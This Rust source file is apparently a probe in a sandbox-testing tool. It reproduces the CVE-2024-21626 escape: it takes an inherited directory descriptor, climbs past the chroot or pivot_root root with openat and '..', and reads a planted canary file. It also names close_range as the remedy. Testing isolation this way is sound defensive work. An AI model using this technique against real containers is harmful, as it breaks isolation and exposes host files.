//! Walks out of the root from an inherited directory descriptor.
//!
//! A path that starts at a directory descriptor and goes up with `..` stops
//! only at the root of the process. A directory outside the root never meets
//! that on its way: one leaked descriptor opens the whole outer file system,
//! through chroot and pivot_root. CVE-2024-21626 is this.
//!
//! Every open directory is tried, and from each the secret's path below every
//! level above it. Only closing descriptors stops it.

use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::path::{Component, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{OFlag, openat};
use nix::sys::stat::{Mode, SFlag, fstat};
use nix::unistd::read;

use crate::{Canary, Class, Context, Guard, Probe, Proof, Refusal, Stop};

pub(crate) const PROBE: Probe = Probe {
    class: Class::Descriptor,
    canary: Canary::DirectoryDescriptor,
    stops: &[Stop {
        guards: &[Guard::Descriptors],
        refusal: Refusal::Absent,
    }],
    needs: &[],
    proof: Proof::Read,
    claims: &["F5"],
    refs: &["CVE-2024-21626", "openat(2)", "path_resolution(7)"],
    remedy: "call close_range() as the last step before the program is executed",
    attempt,
};

/// More levels than that no path has.
const LEVELS: usize = 64;

fn attempt(cx: &mut Context) {
    let Some(tree) = cx.path("tree") else {
        return;
    };
    let directories: Vec<_> = cx.descriptors().filter(is_directory).take(64).collect();
    if directories.is_empty() {
        cx.missing("an open directory");
    }
    for directory in directories {
        let found = climb(directory, &names_below(tree.join("secret")));
        if let Ok(secret) = cx.attempt("openat ../..", found) {
            cx.secret(&secret);
        }
    }
}

fn is_directory(descriptor: &BorrowedFd<'_>) -> bool {
    fstat(descriptor)
        .is_ok_and(|stat| SFlag::from_bits_truncate(stat.st_mode & libc::S_IFMT) == SFlag::S_IFDIR)
}

/// The path without its first 0, 1, 2 … names: what the file is called from
/// each directory above it. A mount that was cut loose has its root anywhere.
fn names_below(path: PathBuf) -> Vec<PathBuf> {
    let names: Vec<_> = path
        .components()
        .filter(|name| matches!(name, Component::Normal(_)))
        .collect();
    (0..names.len())
        .map(|skipped| names[skipped..].iter().collect())
        .collect()
}

/// Tries every name at every level above a directory.
fn climb(directory: BorrowedFd<'_>, names: &[PathBuf]) -> nix::Result<Vec<u8>> {
    let mut level: Option<OwnedFd> = None;
    let mut refusal = Errno::ENOENT;
    for _ in 0..LEVELS {
        let here = level.as_ref().map_or(directory, AsFd::as_fd);
        for name in names {
            match openat(here, name, OFlag::O_RDONLY | OFlag::O_CLOEXEC, Mode::empty()) {
                Ok(file) => {
                    let mut bytes = vec![0; 128];
                    let length = read(&file, &mut bytes)?;
                    bytes.truncate(length);
                    return Ok(bytes);
                }
                Err(errno) => refusal = errno,
            }
        }
        let flags = OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
        level = Some(openat(here, "..", flags, Mode::empty())?);
    }
    Err(refusal)
}
